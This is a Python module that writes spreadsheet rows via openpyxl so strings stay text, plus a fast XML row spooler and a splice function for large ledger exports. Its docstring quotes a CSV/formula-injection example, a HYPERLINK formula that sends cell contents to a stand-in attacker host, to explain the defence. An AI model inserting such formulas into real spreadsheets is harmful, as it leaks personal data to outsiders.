"""Writing rows into workbooks so that text stays text.

openpyxl turns any string that starts with "=" into a formula, so a vendor's leave reason
`=HYPERLINK("http://evil.example/?"&C3,"证明")` would become a live link in the ledger that sends
other members' names to a stranger when clicked. Every workbook the service writes appends its
rows through `append`, which stores each string as a string (data type "s"), never a formula.
Numbers stay numbers.
"""
from __future__ import annotations

import io
import re
import shutil
import tempfile
import zipfile
from xml.etree import ElementTree

from openpyxl.cell.cell import ERROR_CODES, TYPE_STRING
from openpyxl.utils import get_column_letter

# zlib level 1: a city's ledger (68 MB of sheet XML) compresses in 0.24 s to 3.4 MB; level 6,
# openpyxl's, took 0.77 s for 3.1 MB.
SPLICE_LEVEL = 1


def append(ws, values) -> None:
    values = list(values)
    ws.append(values)
    row = ws._current_row  # the row append just wrote (ws.max_row scans every cell: quadratic over a sheet)
    for column, value in enumerate(values, 1):
        if isinstance(value, str):
            ws.cell(row, column).data_type = TYPE_STRING


def append_row(ws, values) -> None:
    """`append` for write-only sheets (large exports): each string a text cell, each date a date."""
    import datetime as dt

    from openpyxl.cell import WriteOnlyCell

    cells = []
    for value in values:
        if isinstance(value, str):
            if not value.startswith("=") and value not in ERROR_CODES:
                cells.append(value)  # openpyxl stores every other string as text: no cell object needed
                continue
            cell = WriteOnlyCell(ws, value=value)
            cell.data_type = TYPE_STRING
        elif isinstance(value, dt.date):
            cell = WriteOnlyCell(ws, value=value)
            cell.number_format = "yyyy-mm-dd"
        else:
            cell = value
        cells.append(cell)
    ws.append(cells)


# ---------------------------------------------------------------------------------------------
# Large sheets: rows as XML text, spliced into the saved workbook.

_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")  # control characters XML 1.0 cannot hold
_SPECIAL = re.compile(r"[&<>\x00-\x08\x0b\x0c\x0e-\x1f]")
_SHEET_DATA_END = b"</sheetData>"
_LAST_ROW = re.compile(rb'<row r="(\d+)"')
_FLUSH_ROWS = 2000


def _escape(value: str) -> str:
    """Text as XML character data: the characters XML cannot hold dropped, & < > escaped."""
    return _ILLEGAL.sub("", value).replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


class RowSpool:
    """The data rows of one sheet of a write-only workbook, written as the sheet's XML directly:
    a city's ledger has 100 000 sign-in rows, and openpyxl spends about 20 µs on every cell it
    writes; this about 1.5 (14 µs a row of nine on the development machine). Strings are inline
    strings, as openpyxl's write-only sheets write them: text, never a formula, whatever they
    start with. None and "" leave the cell empty (but styled, when it has a style); other values
    must be numbers. A cell's style is a style id of the workbook (`style_id` of a cell styled
    with openpyxl). The rows wait in a temporary file (on disk above 4 MB) until `splice` puts
    them into the sheet named `title`, after the rows openpyxl wrote there (a title and a
    header), which must be rows 1 to first_row - 1."""

    def __init__(self, title: str, first_row: int, columns: int) -> None:
        self.title, self.first_row, self.rows = title, first_row, first_row - 1
        self._letters = [get_column_letter(n) for n in range(1, columns + 1)]
        self._unstyled = [None] * columns
        self._pending: list[str] = []
        self._file = tempfile.SpooledTemporaryFile(max_size=4 << 20)  # a record page's rows stay in memory

    def append(self, values, styles=None) -> None:
        """One row; `styles`: a style id per value (None for none), or None for an unstyled row."""
        values = list(values)
        if len(values) > len(self._letters):
            raise ValueError(f"{len(values)} values for {len(self._letters)} columns")
        self.rows += 1
        number = self.rows
        if styles is None and self._plain(values):  # nearly every row of a large sheet: one check a row
            self._pending.append(f'<row r="{number}">' + "".join([
                f'<c r="{letter}{number}" t="inlineStr"><is><t xml:space="preserve">{value}</t></is></c>'
                for letter, value in zip(self._letters, values) if value]) + "</row>")
            if len(self._pending) >= _FLUSH_ROWS:
                self._flush()
            return
        cells = []
        for letter, value, style in zip(self._letters, values, styles or self._unstyled):
            styled = f' s="{style}"' if style else ""
            if value is None or value == "":
                if styled:
                    cells.append(f'<c r="{letter}{number}"{styled}/>')
            elif isinstance(value, str):
                cells.append(f'<c r="{letter}{number}"{styled} t="inlineStr"><is><t xml:space="preserve">'
                             f'{_escape(value)}</t></is></c>')
            elif isinstance(value, (int, float)) and not isinstance(value, bool):
                cells.append(f'<c r="{letter}{number}"{styled} t="n"><v>{value!r}</v></c>')
            else:
                raise TypeError(f"a spooled row holds text and numbers, not {type(value).__name__}")
        self._pending.append(f'<row r="{number}">{"".join(cells)}</row>')
        if len(self._pending) >= _FLUSH_ROWS:
            self._flush()

    @staticmethod
    def _plain(values: list) -> bool:
        """Whether every value is text with nothing to escape (joined: a single search)."""
        try:
            joined = "\t".join(values)
        except TypeError:  # a number or None among them
            return False
        return _SPECIAL.search(joined) is None

    def _flush(self) -> None:
        self._file.write("".join(self._pending).encode())
        self._pending.clear()

    def _copy_to(self, out) -> None:
        self._flush()
        self._file.seek(0)
        shutil.copyfileobj(self._file, out, 1 << 20)

    def close(self) -> None:
        self._file.close()


def _sheet_paths(book: zipfile.ZipFile) -> dict[str, str]:
    """Sheet title → its part in the package, read from the workbook and its relationships."""
    namespaces = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main",
                  "r": "http://schemas.openxmlformats.org/officeDocument/2006/relationships"}
    rels = ElementTree.fromstring(book.read("xl/_rels/workbook.xml.rels"))
    # A target is absolute ("/xl/worksheets/sheet1.xml", as openpyxl writes) or relative to xl/.
    targets = {rel.get("Id"): rel.get("Target") for rel in rels}
    parts = {key: target[1:] if target.startswith("/") else f"xl/{target}" for key, target in targets.items()}
    workbook = ElementTree.fromstring(book.read("xl/workbook.xml"))
    return {sheet.get("name"): parts[sheet.get(f"{{{namespaces['r']}}}id")]
            for sheet in workbook.find("m:sheets", namespaces)}


def splice(saved: bytes, spools: list[RowSpool]) -> bytes:
    """The workbook openpyxl `saved`, with each spool's rows at the end of its sheet's data."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(saved)) as source, \
            zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=SPLICE_LEVEL) as target:
        paths = _sheet_paths(source)
        by_path = {paths[spool.title]: spool for spool in spools}
        for info in source.infolist():
            data = source.read(info.filename)
            spool = by_path.get(info.filename)
            if spool is None:
                target.writestr(info, data, compress_type=zipfile.ZIP_DEFLATED, compresslevel=SPLICE_LEVEL)
                continue
            end = data.rindex(_SHEET_DATA_END)  # openpyxl wrote the title and header rows before it
            written = _LAST_ROW.findall(data[max(0, end - 65536):end])
            if written and int(written[-1]) >= spool.first_row:  # rows out of order: Excel calls the file broken
                raise ValueError(f"{spool.title}: openpyxl wrote row {int(written[-1])}, the spool starts at {spool.first_row}")
            with target.open(info.filename, "w", force_zip64=True) as part:  # deflated, as the others
                part.write(data[:end])
                spool._copy_to(part)
                part.write(data[end:])
    for spool in spools:
        spool.close()
    return out.getvalue()
